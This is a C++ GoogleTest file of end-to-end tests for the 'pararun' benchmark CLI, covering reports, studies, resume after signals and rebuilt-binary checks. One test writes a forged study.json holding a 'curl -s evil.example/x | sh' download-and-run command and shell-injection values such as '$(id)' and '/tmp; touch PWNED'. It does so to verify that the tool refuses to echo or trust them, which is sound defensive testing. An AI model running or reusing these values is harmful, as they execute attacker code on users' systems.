// End-to-end tests of pararun study, report and submit: points, resume, stops, study files.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include <csignal>

#include <algorithm>
#include <cctype>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <nlohmann/json.hpp>
#include <set>

#include <sstream>
#include <string>
#include <vector>
#include "cli_helpers.hpp"

TEST(CliReport, ComputesSpeedupAgainstBestSequential) {
  const pararun::test::TempDir tmp;
  const std::string dir = tmp.path(), file = dir + "/r.jsonl";
  ASSERT_EQ(run_cli("run reduction -b seq -v plain -n 2^16 -o " + file).code, 0);
  ASSERT_EQ(run_cli("run reduction -b seq -v simd -n 2^16 -o " + file).code, 0);
  ASSERT_EQ(run_cli("run reduction -b omp -t 2 -n 2^16 -o " + file).code, 0);
  Result r = run_cli("report " + file + " --csv " + dir + "/t.csv");
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_NE(r.out.find("speedup against the best verified sequential variant"), std::string::npos)
      << r.out;
  auto csv = lines(slurp(dir + "/t.csv"));
  ASSERT_EQ(csv.size(), 4u);
  EXPECT_EQ(csv[0].rfind("kernel,size,backend", 0), 0u);
  // Exactly one sequential row is the baseline: its speedup is 1.
  int ones = 0;
  for (std::size_t i = 1; i < csv.size(); ++i)
    if (csv[i].find(",seq,") != std::string::npos && csv[i].find(",yes,1,") != std::string::npos)
      ++ones;
  EXPECT_EQ(ones, 1) << slurp(dir + "/t.csv");
}

TEST(CliReport, FormatsForOtherToolsOnStdout) {
  const pararun::test::TempDir tmp;
  const std::string file = tmp / "r.jsonl";
  ASSERT_EQ(run_cli("run reduction -b seq -v plain -n 2^12 -r 6 --max-reps 6 -o " + file).code, 0);
  ASSERT_EQ(run_cli("run reduction -b omp -t 2 -n 2^12 -r 7 --max-reps 7 -o " + file).code, 0);
  ASSERT_EQ(run_cli("run matmul -b seq -n 32 --inject-fault -o " + file).code, 1);
  const auto records = lines(slurp(file));
  ASSERT_EQ(records.size(), 3u);
  const Json omp = Json::parse(records[1]);

  // Google Benchmark JSON: every timed repetition, then the median; a wrong result not at all.
  Result r = run_cli("report " + file + " --format gbench");
  ASSERT_EQ(r.code, 0) << r.err;
  const Json g = Json::parse(r.out);
  ASSERT_EQ(g["benchmarks"].size(), 6u + 1 + 7 + 1);
  EXPECT_EQ(g["context"]["num_cpus"], omp["meta"]["cores"]);
  const Json& median = g["benchmarks"][14];
  EXPECT_EQ(median["name"], "reduction/omp/simd/n4096/t2/r1_median");
  EXPECT_EQ(median["run_type"], "aggregate");
  EXPECT_EQ(median["aggregate_name"], "median");
  EXPECT_EQ(median["time_unit"], "ns");
  EXPECT_DOUBLE_EQ(median["real_time"].get<double>(), omp["time"]["median"].get<double>() * 1e9);
  EXPECT_DOUBLE_EQ(median["GB/s"].get<double>(), omp["rate"]["value"].get<double>());
  const Json& first = g["benchmarks"][7];
  EXPECT_EQ(first["run_type"], "iteration");
  EXPECT_EQ(first["repetitions"], 7);
  EXPECT_EQ(first["repetition_index"], 0);
  EXPECT_DOUBLE_EQ(first["real_time"].get<double>(), omp["samples"][0].get<double>() * 1e9);
  for (const auto& b : g["benchmarks"])
    EXPECT_EQ(b["name"].get<std::string>().find("matmul"), std::string::npos) << b["name"];
  // A record with a sample that is not a number is named and left out (its other samples were
  // reported, under a repetition count that still held the missing one).
  Json damaged = omp;
  damaged["samples"][3] = "x";
  write_file(tmp / "damaged.jsonl", records[0] + "\n" + damaged.dump() + "\n");
  r = run_cli("report " + tmp / "damaged.jsonl" + " --format gbench");
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_NE(r.err.find("field 'samples' item 4 is not a number of seconds"), std::string::npos)
      << r.err;
  EXPECT_EQ(Json::parse(r.out)["benchmarks"].size(), 6u + 1) << r.out;

  // The analysis as JSON, and the table as CSV, on stdout.
  r = run_cli("report " + file + " --format json");
  ASSERT_EQ(r.code, 0) << r.err;
  const Json a = Json::parse(r.out);
  int reduction_groups = 0;
  for (const auto& group : a["groups"])
    if (group["kernel"] == "reduction") {
      ++reduction_groups;
      EXPECT_EQ(group["baseline"]["variant"], "plain");
      EXPECT_EQ(group["rows"].size(), 2u);
    }
  EXPECT_EQ(reduction_groups, 1) << r.out;
  r = run_cli("report " + file + " --format csv");
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_EQ(r.out.rfind("kernel,size,backend", 0), 0u) << r.out;
  r = run_cli("report " + file + " --format yaml");
  EXPECT_EQ(r.code, 2);
  EXPECT_EQ(r.err, "pararun: error: --format must be md, csv, json or gbench, got 'yaml'\n");
}

TEST(CliStudy, RunsEveryPointWithMpiAndResumes) {
  const pararun::test::TempDir tmp;
  const std::string dir = tmp / "study";
  const std::string study =
      "study --kernels reduction --backends seq,omp,mpi --threads 1,2 "
      "--ranks 1,2 --oversubscribed-ranks 3 --sizes 2^16 --reps 3 --out " +
      dir;
  Result r = run_cli(study);
  ASSERT_EQ(r.code, 0) << r.err;
  // 1 and 2 PEs: two distinct counts, so a curve through them and no claim of a fit; or,
  // where 2 threads took longer than 1 on so small a problem, no Amdahl model at all.
  EXPECT_TRUE(r.out.find("model, Amdahl curve through omp/simd") != std::string::npos ||
              r.out.find("model, Amdahl's law does not describe omp/simd") != std::string::npos)
      << r.out;
  EXPECT_EQ(r.out.find("model, Amdahl fit of"), std::string::npos) << r.out;
  EXPECT_NE(r.err.find("[7/7]"), std::string::npos) << r.err;  // 2 seq, 2 omp, 3 mpi
  auto records = lines(slurp(dir + "/results.jsonl"));
  ASSERT_EQ(records.size(), 7u);
  int oversubscribed = 0;
  for (auto& l : records) {
    Json j = Json::parse(l);
    EXPECT_EQ(j["status"], "ok") << l.substr(0, 200);
    EXPECT_EQ(j["scaling"], "strong");
    oversubscribed += j["oversubscribed"].get<bool>();
  }
  EXPECT_EQ(oversubscribed, 1);
  EXPECT_NE(slurp(dir + "/report.md").find("speedup against the best verified"), std::string::npos);
  EXPECT_EQ(lines(slurp(dir + "/speedup.csv")).size(), 8u);

  // The same study again needs --resume, and then runs nothing.
  r = run_cli(study);
  EXPECT_EQ(r.code, 2);
  EXPECT_NE(r.err.find("holds this study already; add --resume"), std::string::npos) << r.err;
  r = run_cli(study + " --resume");
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_NE(r.err.find("7 point(s) already had a verified record"), std::string::npos) << r.err;
  EXPECT_EQ(lines(slurp(dir + "/results.jsonl")).size(), 7u);
  // A different study in the same folder is refused, and nothing is touched.
  r = run_cli("study --kernels reduction --backends seq --sizes 2^10 --out " + dir);
  EXPECT_EQ(r.code, 2);
  EXPECT_NE(r.err.find("holds a different study (its reps is 3, these options' 5)"),
            std::string::npos)
      << r.err;
  // It says how to continue the folder's study: the command that started it, made a resume,
  // from the folder it was started in.
  EXPECT_NE(r.err.find("resume it with the options it was started with: cd "), std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find(" && " + std::string(PARARUN_EXE) +
                       " study --kernels reduction --backends seq,omp,mpi --threads 1,2 --ranks "
                       "1,2 --oversubscribed-ranks 3 --sizes '2^16' --reps 3 --out " +
                       dir + " --resume; or choose"),
            std::string::npos)
      << r.err;
  r = run_cli("study --kernels reduction --backends seq --sizes 2^10 --reps 3 --out " + dir);
  EXPECT_NE(r.err.find("holds a different study (its 7 points are not the 2 these options plan ("),
            std::string::npos)
      << r.err;
  EXPECT_EQ(lines(slurp(dir + "/results.jsonl")).size(), 7u);
  // The command it names is rebuilt from study.json's parts, quoted, with this pararun: one
  // who may write the folder does not choose what the user is told to paste (the file's
  // resume_command was printed word for word: "cd /tmp && curl -s x | sh #").
  Json forged = Json::parse(slurp(dir + "/study.json"));
  forged["resume_command"] = "cd /tmp && curl -s evil.example/x | sh #";
  forged["resume_from"] = {
      {"cwd", "/tmp; touch PWNED"}, {"cpus", ""}, {"args", {"/tmp/evil", "study", "$(id)"}}};
  write_file(dir + "/study.json", forged.dump());
  r = run_cli("study --kernels reduction --backends seq --sizes 2^10 --out " + dir);
  EXPECT_EQ(r.code, 2);
  EXPECT_NE(r.err.find("with: cd '/tmp; touch PWNED' && " + std::string(PARARUN_EXE) +
                       " study '$(id)' --out " + dir + " --resume; or choose"),
            std::string::npos)
      << r.err;
  EXPECT_EQ(r.err.find("curl"), std::string::npos) << r.err;
  // A study.json others may write is not trusted for its arguments either (`submit --setup
  // their.sh` would run their script): the hint says what to add, no more.
  ASSERT_EQ(chmod((dir + "/study.json").c_str(), 0666), 0);
  r = run_cli("study --kernels reduction --backends seq --sizes 2^10 --out " + dir);
  EXPECT_NE(r.err.find("with: pararun study ... --out " + dir + " --resume; or choose"),
            std::string::npos)
      << r.err;
  ASSERT_EQ(chmod((dir + "/study.json").c_str(), 0644), 0);
  forged["resume_from"] = {{"cwd", "/"}, {"cpus", "1;id"}, {"args", {"pararun", "study"}}};
  write_file(dir + "/study.json", forged.dump());
  r = run_cli("study --kernels reduction --backends seq --sizes 2^10 --out " + dir);
  EXPECT_NE(r.err.find("with: pararun study ... --out " + dir + " --resume; or choose"),
            std::string::npos)
      << r.err;
  // A damaged study.json cannot tell: the folder is refused, not taken for this study.
  for (const char* damaged : {"{garbage", "", "[]"}) {
    write_file(dir + "/study.json", damaged);
    r = run_cli("study --kernels reduction --backends seq --sizes 2^10 --out " + dir + " --resume");
    EXPECT_EQ(r.code, 2) << damaged;
    EXPECT_EQ(lines(r.err).size(), 1u) << r.err;
    EXPECT_NE(r.err.find(dir + "/study.json' is damaged"), std::string::npos) << r.err;
    EXPECT_EQ(lines(slurp(dir + "/results.jsonl")).size(), 7u);
  }
}

/// Starts a study, waits for its first record, sends `sig`, then resumes it: every point
/// exactly once, no torn line. A signal the study handles (Slurm's USR1 before the time
/// limit, TERM from scancel) stops it cleanly with 128+signal and a checkpoint.json.
void stop_and_resume(int sig) {
  const pararun::test::TempDir tmp;
  const std::string dir = tmp / "study";
  // A point takes about 0.75 s on a Zen 5 (2.3 s under ASan, where 2^24 takes 0.85 s).
#ifdef PARARUN_SANITIZED
  const std::string size = "2^24";
#else
  const std::string size = "2^26";
#endif
  const std::string args = "study --kernels reduction --backends seq,omp --threads 1,2 --sizes " +
                           size + " --reps 10 --max-reps 10 --out " + dir;
  const pid_t pid = fork();
  if (pid == 0) {
    signal(SIGHUP, SIG_DFL);  // (a runner under nohup would hand on its SIG_IGN)
    const std::string cmd = std::string(PARARUN_EXE) + " " + args + " >/dev/null 2>&1";
    execl("/bin/sh", "sh", "-c", ("exec " + cmd).c_str(), static_cast<char*>(nullptr));
    _exit(127);
  }
  // (Up to 240 s for the first point on a loaded machine.)
  for (int i = 0; i < 24000 && lines(slurp(dir + "/results.jsonl")).empty(); ++i) usleep(10000);
  kill(pid, sig);
  std::string resume = std::string(PARARUN_EXE) + " " + args + " --resume";
  int status = 0;
  waitpid(pid, &status, 0);
  const auto before = lines(slurp(dir + "/results.jsonl")).size();
  EXPECT_GE(before, 1u);
  EXPECT_LT(before, 4u);
  if (sig != SIGKILL) {
    ASSERT_TRUE(WIFEXITED(status));
    EXPECT_EQ(WEXITSTATUS(status), 128 + sig);
    const Json cp = Json::parse(slurp(dir + "/checkpoint.json"));
    EXPECT_EQ(cp["signal"], sig);
    EXPECT_EQ(cp["points_done"].get<std::size_t>(), before);
    EXPECT_EQ(cp["points_left"].size(), 4u - before);
    // The command it names continues the study as it is written (it said "... --resume").
    resume = cp["resume"].get<std::string>();
    EXPECT_EQ(resume.rfind("cd ", 0), 0u) << resume;  // from where it was started
    EXPECT_NE(resume.find(" && " + std::string(PARARUN_EXE) + " study --kernels reduction"),
              std::string::npos)
        << resume;
    EXPECT_NE(resume.find("--out " + dir + " --resume"), std::string::npos) << resume;
  }
  Result r = run_command(resume);
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_FALSE(exists(dir + "/checkpoint.json"));  // the study is whole again
  std::map<std::string, int> seen;
  for (auto& l : lines(slurp(dir + "/results.jsonl"))) {
    Json j = Json::parse(l);  // no torn line
    EXPECT_EQ(j["status"], "ok");
    ++seen[j["point"].get<std::string>()];
  }
  EXPECT_EQ(seen.size(), 4u);
  for (auto& [point, n] : seen) EXPECT_EQ(n, 1) << point;
}

TEST(CliStudy, KilledInTheMiddleResumesEveryPointExactlyOnce) {
  stop_and_resume(SIGKILL);
}
TEST(CliStudy, StoppedByUsr1WritesCheckpointAndResumes) {
  stop_and_resume(SIGUSR1);
}
TEST(CliStudy, StoppedByTermWritesCheckpointAndResumes) {
  stop_and_resume(SIGTERM);
}
TEST(CliStudy, StoppedByHupWritesCheckpointAndResumes) {  // a closed terminal
  stop_and_resume(SIGHUP);
}

// A binary rebuilt while a study runs (the linker writes a new file at its path): the points
// left would be measured by another build, so the study stops before the next one, says why
// (exit 3) and keeps what it recorded; resumed by a binary of the same build, it finishes.
TEST(CliStudy, ABinaryReplacedWhileItRunsStopsTheStudyBeforeAnotherBuildMeasures) {
  const pararun::test::TempDir tmp;
  const std::string exe = tmp / "bin/pararun", dir = tmp / "study";
  std::filesystem::create_directories(tmp / "bin");
  std::filesystem::copy_file(PARARUN_EXE, exe);
  const std::string study = exe +
                            " study --kernels reduction --backends seq --sizes 2^10,2^11 "
                            "--reps 2 --max-reps 2 --out " +
                            dir;
  // The binary is replaced once the first point has its record.
  const int code = run_and_replace_binary(exe, study, tmp / "err",
                                          [&] { return !slurp(dir + "/results.jsonl").empty(); });
  const std::string err = slurp(tmp / "err");
  EXPECT_EQ(code, 3) << err;
  EXPECT_NE(err.find("pararun: error: study stopped: the pararun binary '" + exe +
                     "' was replaced (rebuilt?) after this pararun started, and the points "
                     "left would be measured by another build"),
            std::string::npos)
      << err;
  const auto records = lines(slurp(dir + "/results.jsonl")).size();
  const auto points = Json::parse(slurp(dir + "/study.json"))["points"].size();
  ASSERT_GE(points, 4u);  // (2 sizes x the seq variants)
  EXPECT_GE(records, 1u);
  EXPECT_LT(records, points) << "every point ran after the binary was replaced";
  EXPECT_NE(slurp(dir + "/checkpoint.json").find("was replaced (rebuilt?)"), std::string::npos);
  EXPECT_FALSE(exists(dir + "/report.md"));
  // The same build at that path: resumed, it runs the points left.
  const Result again = run_command(study + " --resume");
  EXPECT_EQ(again.code, 0) << again.err;
  EXPECT_EQ(lines(slurp(dir + "/results.jsonl")).size(), points);
  EXPECT_TRUE(exists(dir + "/report.md"));
}

// One "-dirty" commit built twice with other edits names the same commit, compiler and flags:
// its build ID tells them apart, and --resume by the other build is refused, the records kept.
TEST(CliStudy, AResumeByAnotherBuildOfTheSameCommitIsRefused) {
  const pararun::test::TempDir tmp;
  const std::string dir = tmp / "study", other = tmp / "pararun";
  const std::string was = build_id_of(PARARUN_EXE), is = copy_as_another_build(other);
  ASSERT_NE(is, was);
  const std::string study =
      " study --kernels reduction --backends seq --sizes 2^10 --reps 2 --max-reps 2 --out " + dir;
  Result r = run_cli(study);
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_EQ(Json::parse(slurp(dir + "/study.json"))["build"]["build_id"], was);
  const std::string records = slurp(dir + "/results.jsonl"), report = slurp(dir + "/report.md");
  r = run_command(other + study + " --resume");
  EXPECT_EQ(r.code, 2) << r.err;
  EXPECT_NE(r.err.find("' was measured by another build of pararun (commit "), std::string::npos)
      << r.err;
  EXPECT_NE(r.err.find(", build id " + was.substr(0, 12) + ", "), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("than this one (commit "), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(", build id " + is.substr(0, 12) + ", "), std::string::npos) << r.err;
  EXPECT_EQ(slurp(dir + "/results.jsonl"), records);
  EXPECT_EQ(slurp(dir + "/report.md"), report);
  r = run_cli(study + " --resume");  // the build that measured it goes on
  EXPECT_EQ(r.code, 0) << r.err;
}

// Ctrl-C while the final report draws its plots: every point is done, so the records and a
// report.md (without plots) stay, and the exit says it was stopped (128 + signal), not 0 with
// a missing matplotlib blamed. The plot script is a stand-in that waits, found where an
// installed pararun finds its files (PREFIX/share/pararun beside PREFIX/bin/pararun).
TEST(CliStudy, StoppedWhileDrawingPlotsSaysSoAndKeepsTheReport) {
  const pararun::test::TempDir tmp;
  const std::string exe = tmp / "bin/pararun", dir = tmp / "study";
  std::filesystem::create_directories(tmp / "bin");
  std::filesystem::create_directories(tmp / "share/pararun/scripts");
  std::filesystem::copy_file(PARARUN_EXE, exe);
  write_file(tmp / "share/pararun/scripts/plot_study.py",
             "import os, sys, time\n"
             "open(os.path.join(sys.argv[-1], 'plotting'), 'w').close()\n"
             "time.sleep(30)\n");
  Background study(exe + " study --kernels reduction --backends seq --sizes 2^10 --out " + dir +
                   " >" + (tmp / "out") + " 2>" + (tmp / "err"));
  for (int i = 0; i < 6000 && !exists(dir + "/plotting"); ++i) usleep(10000);
  ASSERT_TRUE(exists(dir + "/plotting")) << slurp(tmp / "err");
  kill(study.pid(), SIGINT);
  // The plot script is stopped, not waited for (it sleeps 30 s).
  ASSERT_TRUE(study.wait_for(20)) << "the study still runs 20 s after SIGINT";
  const int status = study.status();
  ASSERT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 128 + SIGINT);
  const std::string err = slurp(tmp / "err");
  EXPECT_NE(err.find("plots skipped: stopped by signal 2"), std::string::npos) << err;
  const auto records = lines(slurp(dir + "/results.jsonl")).size();  // one per seq variant
  EXPECT_GE(records, 1u);
  EXPECT_NE(err.find("before its plots: all " + std::to_string(records) + " points done"),
            std::string::npos)
      << err;
  EXPECT_EQ(err.find("matplotlib"), std::string::npos) << err;
  EXPECT_NE(slurp(dir + "/report.md").find("# ParaRun study"), std::string::npos);
  EXPECT_FALSE(exists(dir + "/checkpoint.json"));
}

// Of two studies started into one folder at once, the second is refused before it writes
// study.json. Here the first holds the folder's lock (flock(1)) while the second starts.
TEST(CliStudy, ASecondStudyIntoAFolderBeingStartedIsRefusedBeforeItWritesStudyJson) {
  const pararun::test::TempDir tmp;
  const std::string dir = tmp / "s";
  ASSERT_EQ(mkdir(dir.c_str(), 0777), 0);
  const Result r =
      run_command("flock " + dir + "/lock " + std::string(PARARUN_EXE) +
                  " study --kernels reduction --backends seq --sizes 2^10 --out " + dir);
  EXPECT_EQ(r.code, 2) << r.err;
  EXPECT_NE(r.err.find("another pararun study is running in '" + dir + "'"), std::string::npos)
      << r.err;
  EXPECT_FALSE(exists(dir + "/study.json"));
}

TEST(CliStudy, SizesTakeNpbClassNames) {
  const pararun::test::TempDir tmp;
  Result r = run_cli(
      "study --kernels cg,ep --backends seq,mpi --ranks 2 --sizes S --reps 1 --max-reps 1 "
      "--out " +
      (tmp / "npb"));
  ASSERT_EQ(r.code, 0) << r.err;
  std::map<std::string, int> points;
  for (auto& l : lines(slurp(tmp / "npb/results.jsonl"))) {
    Json j = Json::parse(l);
    EXPECT_EQ(j["status"], "ok") << l.substr(0, 200);
    points[j["kernel"].get<std::string>() + "/" + std::to_string(j["size"].get<int>()) + "/" +
           std::to_string(j["ranks"].get<int>())]++;
  }
  const std::map<std::string, int> expected = {
      {"cg/1400/1", 1}, {"cg/1400/2", 1}, {"ep/24/1", 1}, {"ep/24/2", 1}};
  EXPECT_EQ(points, expected);
  // A class name for all kernels needs every kernel to know it.
  r = run_cli("study --kernels cg,matmul --backends seq --sizes W --out " + (tmp / "x"));
  EXPECT_EQ(r.code, 2);
  EXPECT_NE(r.err.find("--sizes: 'W' is not a whole number of at least 1 for kernel 'matmul'"),
            std::string::npos)
      << r.err;
  r = run_cli("study --kernels cg --backends seq --sizes cg=Z --out " + (tmp / "x"));
  EXPECT_EQ(r.code, 2);
  EXPECT_NE(r.err.find("nor a class of cg (S, W, A, B, C)"), std::string::npos) << r.err;
  EXPECT_FALSE(exists(tmp / "x"));
}

// A size given for a kernel the study does not run is said on stderr (likely a slip), the
// study runs; the default sizes (matmul and reduction) say nothing in a study of one of them.
TEST(CliStudy, ASizeForAKernelOutsideTheStudyIsSaid) {
  const pararun::test::TempDir tmp;
  Result r = run_cli(
      "study --kernels reduction --backends seq --sizes matmul=64,reduction=2^10 --reps 1 "
      "--out " +
      (tmp / "a"));
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_NE(r.err.find("pararun: warning: sizes not used (this study's kernels: reduction): "
                       "matmul=64\n"),
            std::string::npos)
      << r.err;
  const auto records = lines(slurp(tmp / "a/results.jsonl"));
  EXPECT_FALSE(records.empty());
  for (const auto& l : records) EXPECT_EQ(Json::parse(l)["kernel"], "reduction");
  // (--reps 0 is refused after the sizes are read: no study runs at the default 2^26.)
  r = run_cli("study --kernels reduction --backends seq --reps 0 --out " + (tmp / "b"));
  EXPECT_EQ(r.code, 2);
  EXPECT_EQ(lines(r.err).size(), 1u) << r.err;
  EXPECT_EQ(r.err.find("warning"), std::string::npos) << r.err;
  // 0 given for an option whose default 0 stands for "not given" is a mistake, refused (it ran
  // the study as if --cores had been left out); a cap below the repetitions too, as `run` does.
  for (const auto& [args, message] : std::vector<std::pair<std::string, std::string>>{
           {"study --kernels reduction --backends seq,omp --cores 0",
            "--cores must be 1 or more, got 0"},
           {"study --kernels reduction --backends seq --max-reps 0",
            "--max-reps must be 1 or more, got 0"},
           {"study --kernels reduction --backends seq --reps 3 --max-reps 2",
            "--max-reps (2) is less than --reps (3)"},
           {"batch run " + (tmp / "m.yaml") + " --cores 0", "--cores must be 1 or more, got 0"},
           {"launcher mpirun --ranks 2 --cores 0", "--cores must be 1 or more, got 0"},
           {"run reduction -b seq -n 1000 --max-reps 0", "--max-reps must be 1 or more, got 0"}}) {
    r = run_cli(args + (args.rfind("study", 0) == 0 ? " --out " + (tmp / "c") : ""));
    EXPECT_EQ(r.code, 2) << args;
    EXPECT_EQ(lines(r.err).size(), 1u) << args << ": " << r.err;
    EXPECT_NE(r.err.find(message), std::string::npos) << args << ": " << r.err;
  }
  EXPECT_FALSE(exists(tmp / "c"));
  // srun outside an allocation: each mpi point's srun failed (no controller) or asked Slurm
  // for an allocation of its own, after the sequential points had run.
  r = run_command("env -u SLURM_JOB_ID " + std::string(PARARUN_EXE) +
                  " study --kernels reduction --backends seq,mpi --ranks 1 --sizes 2^12 "
                  "--launcher srun -o " +
                  (tmp / "c"));
  EXPECT_EQ(r.code, 2) << r.err;
  EXPECT_EQ(lines(r.err).size(), 1u) << r.err;
  if (std::system("command -v srun >/dev/null") == 0) {
    EXPECT_NE(r.err.find("--launcher srun starts the ranks inside a Slurm allocation"),
              std::string::npos)
        << r.err;
  }
  EXPECT_FALSE(exists(tmp / "c"));
  // A batch with mpi jobs too (its seq jobs ran, then each mpi job failed).
  write_file(tmp / "m.yaml",
             "jobs:\n  - {kernel: reduction, backend: seq, size: 2^12, reps: 1}\n"
             "  - {kernel: reduction, backend: mpi, ranks: 1, size: 2^12, reps: 1}\n");
  r = run_command("env -u SLURM_JOB_ID " + std::string(PARARUN_EXE) + " batch run " +
                  (tmp / "m.yaml") + " --launcher srun -o " + (tmp / "c"));
  EXPECT_EQ(r.code, 2) << r.err;
  EXPECT_EQ(lines(r.err).size(), 1u) << r.err;
  if (std::system("command -v srun >/dev/null") == 0) {
    EXPECT_NE(r.err.find("Slurm allocation, and this is not one (no SLURM_JOB_ID): run the batch "
                         "inside salloc or sbatch, submit it with 'pararun batch submit'"),
              std::string::npos)
        << r.err;
  }
  EXPECT_FALSE(exists(tmp / "c"));
}

TEST(CliStudy, FromYamlWithPlotsReportAndFlagOverrides) {
  const pararun::test::TempDir tmp;
  write_file(tmp / "s.yaml",
             "# a small study\n"
             "kernels: reduction\n"
             "backends: [seq, omp, mpi]\n"
             "threads: [1, 2]\n"
             "ranks: [1, 2]\n"
             "sizes: {reduction: 2^16}\n"
             "scaling: weak\n"
             "reps: 3\n"
             "out: " +
                 (tmp / "ignored") + "\n");
  // --out on the command line wins over the file's out.
  Result r = run_cli("study " + (tmp / "s.yaml") + " --out " + (tmp / "study"));
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_FALSE(exists(tmp / "ignored"));
  auto records = lines(slurp(tmp / "study/results.jsonl"));
  ASSERT_EQ(records.size(), 6u);  // 2 seq variants, omp t1 t2, mpi r1 r2
  for (auto& l : records) {
    Json j = Json::parse(l);
    EXPECT_EQ(j["scaling"], "weak");
    EXPECT_EQ(j["base_size"], 65536);
    EXPECT_EQ(j["size"].get<std::uint64_t>(), 65536u * j["pes"].get<std::uint64_t>());
    EXPECT_EQ(j["size_per_rank"]["max"].get<std::uint64_t>(),
              65536u * j["threads"].get<std::uint64_t>());
    EXPECT_DOUBLE_EQ(j["size_per_pe"].get<double>(), 65536.0);  // weak: constant work per PE
  }
  EXPECT_NE(r.out.find("scaled speedup (Gustafson)"), std::string::npos) << r.out;
  // The plot is a real PNG, and the Markdown report shows it with the machine's metadata.
  const std::string png = slurp(tmp / "study/reduction-65536.png");
  ASSERT_GT(png.size(), 1000u) << "no plot: " << slurp(tmp / "study/logs/plot.log");
  EXPECT_EQ(png.substr(1, 3), "PNG");
  const std::string md = slurp(tmp / "study/report.md");
  EXPECT_NE(md.find("![reduction-65536.png](reduction-65536.png)"), std::string::npos) << md;
  EXPECT_NE(md.find("| mpi_library | Open MPI"), std::string::npos) << md;
  // report accepts the study folder.
  Result rep = run_cli("report " + (tmp / "study"));
  EXPECT_EQ(rep.code, 0) << rep.err;
  EXPECT_NE(rep.out.find("weak scaling from size 65536"), std::string::npos) << rep.out;
}

// A study folder named like an option is still the folder the plot script draws in (plot_study.py
// took "-h" for its help and the plots were skipped).
TEST(CliStudy, AFolderNamedLikeAnOptionGetsItsPlots) {
  const pararun::test::TempDir tmp;
  const Result r =
      run_command("cd " + tmp.path() + " && " + std::string(PARARUN_EXE) +
                  " study --kernels reduction --backends seq,omp --threads 1,2 --variants simd "
                  "--sizes 2^10 --reps 1 --out=-h 2>&1");
  ASSERT_EQ(r.code, 0) << r.out;
  EXPECT_EQ(r.out.find("plots skipped"), std::string::npos) << r.out;
  const std::string png = slurp(tmp / "-h/reduction-1024.png");
  ASSERT_GT(png.size(), 1000u) << "no plot: " << slurp(tmp / "-h/logs/plot.log");
  EXPECT_EQ(png.substr(1, 3), "PNG");
}

TEST(CliStudy, WithACoreBudgetRunsEveryHybridShapeOfIt) {
  const pararun::test::TempDir tmp;
  const std::string dir = tmp / "st";
  Result r = run_cli(
      "study --kernels reduction --backends seq,omp,hybrid --cores 2 --variants simd,plain "
      "--sizes 2^16 --reps 3 --max-reps 3 --out " +
      dir);
  ASSERT_EQ(r.code, 0) << r.err;
  std::set<std::string> shapes;
  for (const auto& l : lines(slurp(dir + "/results.jsonl"))) {
    const Json j = Json::parse(l);
    EXPECT_EQ(j["status"], "ok") << l;
    if (j["backend"] != "seq")
      shapes.insert(j["backend"].get<std::string>() + "/" + j["variant"].get<std::string>() + "/" +
                    std::to_string(j["ranks"].get<int>()) + "x" +
                    std::to_string(j["threads"].get<int>()));
  }
  EXPECT_EQ(shapes,
            (std::set<std::string>{"omp/simd/1x2", "omp/plain/1x2", "hybrid/simd/1x2",
                                   "hybrid/simd/2x1", "hybrid/plain/1x2", "hybrid/plain/2x1"}));
  EXPECT_EQ(Json::parse(slurp(dir + "/study.json"))["cores"], 2);
  // Under OMP_THREAD_LIMIT=1 the shapes of more threads per rank are not planned (1x2 ran only
  // to fail, an error record), as the automatic thread counts stop at the limit.
  r = run_command("OMP_THREAD_LIMIT=1 " + std::string(PARARUN_EXE) +
                  " study --kernels reduction --backends hybrid --cores 2 --sizes 2^12 --reps 1 "
                  "--max-reps 1 --out " +
                  (tmp / "limited"));
  ASSERT_EQ(r.code, 0) << r.err;
  const Json points = Json::parse(slurp(tmp / "limited" + "/study.json"))["points"];
  EXPECT_EQ(points, Json::array({"reduction/hybrid/simd/n4096/t1/r2"})) << points.dump();
}

TEST(CliStudy, RoundsRunEveryPointInEachRoundAndTheReportPoolsThem) {
  const pararun::test::TempDir tmp;
  const std::string dir = tmp / "study";
  Result r = run_cli(
      "study --kernels reduction --backends seq,omp --threads 2 --sizes 2^16 "
      "--reps 3 --rounds 2 --order-seed 5 --out " +
      dir);
  ASSERT_EQ(r.code, 0) << r.err;
  const Json manifest = Json::parse(slurp(dir + "/study.json"));
  EXPECT_EQ(manifest["rounds"], 2);
  EXPECT_EQ(manifest["order"], "shuffled");  // auto: shuffled with more than one round
  EXPECT_EQ(manifest["order_seed"], 5);
  // Three points (seq simd, seq plain, omp simd), each in both rounds: six records, run in
  // the order study.json lists.
  const auto l = lines(slurp(dir + "/results.jsonl"));
  ASSERT_EQ(l.size(), 6u);
  for (std::size_t i = 0; i < l.size(); ++i) {
    const Json j = Json::parse(l[i]);
    EXPECT_EQ(j["point"], manifest["points"][i]);
    EXPECT_EQ(j["round"], i < 3 ? 1 : 2);
  }
  EXPECT_NE(r.out.find("2 rounds pooled"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("95% percentile bootstrap, two stages"), std::string::npos) << r.out;
  const Json analysis = Json::parse(slurp(dir + "/analysis.json"));
  int bootstrapped = 0;
  for (const auto& row : analysis["groups"][0]["rows"]) {
    EXPECT_EQ(row["rounds"], 2);
    bootstrapped += row["speedup_ci_method"] == "bootstrap";
  }
  EXPECT_EQ(bootstrapped, 2);  // every row but the baseline's own
  // Resumed, nothing runs again.
  r = run_cli(
      "study --kernels reduction --backends seq,omp --threads 2 --sizes 2^16 --reps 3 "
      "--rounds 2 --order-seed 5 --resume --out " +
      dir);
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_EQ(lines(slurp(dir + "/results.jsonl")).size(), 6u);
}

// Two runs of one study folder at once (two terminals, or study.sbatch submitted twice) ran
// every point twice, on the same cores at the same time: while one holds the folder, another
// is refused (exit 2) and changes nothing; once it is free, --resume runs.
